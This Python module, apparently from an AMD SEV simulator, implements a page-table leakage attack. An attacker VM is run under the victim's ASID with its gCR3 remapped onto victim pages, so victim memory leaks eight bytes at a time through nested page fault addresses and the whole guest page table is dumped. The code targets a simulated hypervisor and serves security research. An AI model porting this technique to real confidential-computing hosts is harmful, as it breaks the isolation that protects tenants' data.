"""PTE-format leakage: run an attacker VM under the victim's ASID with its
gCR3 frame remapped onto a victim page, and read one 8-byte block out of the
address of the nested page fault the walk produces."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Optional, Sequence

from ..errors import SevSimError, VmRelaunchNeeded
from ..hypervisor.core import GuestVm, Hypervisor
from ..paging import (
    PAGE_MASK,
    PFN_MASK,
    PTE_P,
    choose_nrip,
    gva_from_indices,
    leaked_known_mask,
    pfn_from_fault,
)
from ..vm_core.machine import EXIT_NPF, EXIT_SHUTDOWN, VmExit
from ..vm_core.vmcb import TLB_FLUSH_ASID
from .report import RMP_BLOCKED, UNLEAKABLE, BlockResult, LeakedBlock, LeakReport

# an IDT base no walk can reach: any fault while the attacker runs escalates
# straight to shutdown instead of walking (and leaking) something else
NONCANONICAL_IDTR = 0x8000_0000_0000_0000


def prepare_attacker(hv: Hypervisor, attacker: GuestVm) -> None:
    if attacker.vmcb.control.sev_es:
        return
    hv.set_idtr(attacker, NONCANONICAL_IDTR)


@dataclass(frozen=True)
class TablePath:
    """Victim table gPAs (root first) and the indices that link them."""

    tables: tuple[int, ...]
    indices: tuple[int, ...]

    def __post_init__(self) -> None:
        if len(self.tables) != len(self.indices) + 1:
            raise ValueError("a path has one more table than links")


class V1Reader:
    """Reusable attacker setup; rewinds the attacker's VMCB between reads."""

    def __init__(self, hv: Hypervisor, victim: GuestVm, attacker: GuestVm, *, rewind: bool = True,
                 report: Optional[LeakReport] = None):
        self.hv = hv
        self.victim = victim
        self.attacker = attacker
        self.rewind = rewind
        self.report = report if report is not None else LeakReport()
        prepare_attacker(hv, attacker)
        self._base = hv.snapshot(attacker)
        self._image = attacker.ground_truth   # the attacker's own image, for relaunching it

    # -- attacker VM management ------------------------------------------------

    def _reset(self) -> None:
        if self.attacker.crashed:
            if not self.rewind:
                raise VmRelaunchNeeded(f"{self.attacker.vm_id} crashed and rewinding is disabled")
            self.hv.rewind(self.attacker, self._base)
        elif self.rewind:
            self.hv.rewind(self.attacker, self._base)

    def relaunch(self) -> None:
        hv = self.hv
        vm_id = self.attacker.vm_id
        cls = self.attacker.sev_class
        hv.teardown(self.attacker)
        self.attacker = hv.launch_vm(self._image, cls, vm_id)
        prepare_attacker(hv, self.attacker)
        self._base = hv.snapshot(self.attacker)
        self.report.vm_relaunch_count += 1

    # -- one momentary execution -----------------------------------------------

    def _fire(self, nrip: int) -> VmExit:
        hv, att = self.hv, self.attacker
        hv.set_asid(att, self.victim.asid)
        hv.set_rip(att, nrip)
        hv.request_tlb_flush(att, TLB_FLUSH_ASID)
        return hv.run(att)

    def _decode(self, spa: int, ex: VmExit, last_level: bool) -> BlockResult:
        if ex.code == EXIT_NPF and ex.is_rmp_fault:
            self.report.rmp_fault_count += 1
            return RMP_BLOCKED
        if ex.code == EXIT_NPF and not ex.event_pending:
            self.report.npf_count += 1
            pfn = pfn_from_fault(ex.exitinfo2)
            value = (pfn << 12) | PTE_P
            step = self.hv.trace.step   # the VMEXIT record that carried it
            self.hv.trace.emit("LEAK", spa=spa, value=value, exitinfo2=ex.exitinfo2, exit_step=step)
            return LeakedBlock(spa, value, leaked_known_mask(last_level), last_level, step, ex.exitinfo2)
        if ex.code == EXIT_SHUTDOWN:
            self.report.triple_fault_count += 1
        elif ex.code == EXIT_NPF:
            self.report.npf_count += 1
        return UNLEAKABLE

    def read_block(self, spa0: int) -> BlockResult:
        """Top-level variant: the target block is read as a level-4 entry."""
        if spa0 % 8:
            raise SevSimError("target block must be 8-byte aligned")
        try:
            self._reset()
        except VmRelaunchNeeded:
            self.relaunch()
        hv, att = self.hv, self.attacker
        hv.clear_present_bits(att)
        hv.remap_gcr3(att, spa0 >> 12)
        ex = self._fire(choose_nrip(spa0 & PAGE_MASK))
        result = self._decode(spa0, ex, last_level=False)
        self.report.record(spa0, result)
        return result

    def read_block_last_level(self, spa0: int, path: TablePath) -> BlockResult:
        """Walk real victim tables down to level 1, whose frame is replaced by
        the target page, so only the last-level format rules apply."""
        if len(path.indices) != 3:
            raise ValueError("last-level reads need the three upper indices")
        try:
            self._reset()
        except VmRelaunchNeeded:
            self.relaunch()
        hv, att, victim = self.hv, self.attacker, self.victim
        hv.clear_present_bits(att)
        hv.set_cr3(att, path.tables[0])
        for gpa in path.tables[:3]:
            hv.map_gpa(att, gpa, victim.spa_of(gpa) >> 12)
        hv.map_gpa(att, path.tables[3], spa0 >> 12)
        i4, i3, i2 = path.indices
        ex = self._fire(gva_from_indices(i4, i3, i2, (spa0 & PAGE_MASK) // 8))
        result = self._decode(spa0, ex, last_level=True)
        self.report.record(spa0, result)
        return result


def v1_read_block(hv: Hypervisor, victim: GuestVm, attacker: GuestVm, spa0: int, *,
                  rewind: bool = True, report: Optional[LeakReport] = None) -> BlockResult:
    return V1Reader(hv, victim, attacker, rewind=rewind, report=report).read_block(spa0)


@dataclass
class DumpResult:
    gcr3: int
    tree: dict[int, dict[int, int]] = field(default_factory=dict)   # table gPA -> {index: pfn}
    levels: dict[int, int] = field(default_factory=dict)            # table gPA -> level
    report: LeakReport = field(default_factory=LeakReport)

    def leaves(self) -> dict[int, int]:
        """gVA page -> gPA page for every leaf reached."""
        out: dict[int, int] = {}

        def walk(table: int, level: int, idx: Sequence[int]) -> None:
            for i, pfn in self.tree.get(table, {}).items():
                if level == 1:
                    out[gva_from_indices(*idx, i)] = pfn << 12
                elif pfn << 12 in self.tree:
                    walk(pfn << 12, level - 1, (*idx, i))

        walk(self.gcr3, 4, ())
        return out


def _read_table(reader: V1Reader, victim: GuestVm, table: int, level: int,
                path: Optional[TablePath]) -> dict[int, int]:
    base = victim.spa_of(table)
    entries: dict[int, int] = {}
    for i in range(512):
        if level == 1:
            res = reader.read_block_last_level(base + 8 * i, path)
        else:
            res = reader.read_block(base + 8 * i)
        if isinstance(res, LeakedBlock):
            entries[i] = res.pfn
    return entries


def v1_dump_page_table(hv: Hypervisor, victim: GuestVm, attacker: GuestVm, *, rewind: bool = True,
                       report: Optional[LeakReport] = None) -> DumpResult:
    """Capture gCR3, then leak every table level by level."""
    reader = V1Reader(hv, victim, attacker, rewind=rewind, report=report)
    gcr3 = hv.capture_gcr3(victim)
    out = DumpResult(gcr3, report=reader.report)
    frontier: list[tuple[int, int, TablePath]] = [(gcr3, 4, TablePath((gcr3,), ()))]
    while frontier:
        nxt = []
        for table, level, path in frontier:
            if table in out.tree:
                continue
            if (table >> 12) not in victim.backing:
                continue   # not a frame the hypervisor ever gave this guest
            entries = _read_table(reader, victim, table, level, path if level == 1 else None)
            out.tree[table] = entries
            out.levels[table] = level
            if level > 1:
                for i, pfn in sorted(entries.items()):
                    child = (pfn << 12) & PFN_MASK
                    nxt.append((child, level - 1, TablePath(path.tables + (child,), path.indices + (i,))))
        frontier = nxt
    return out
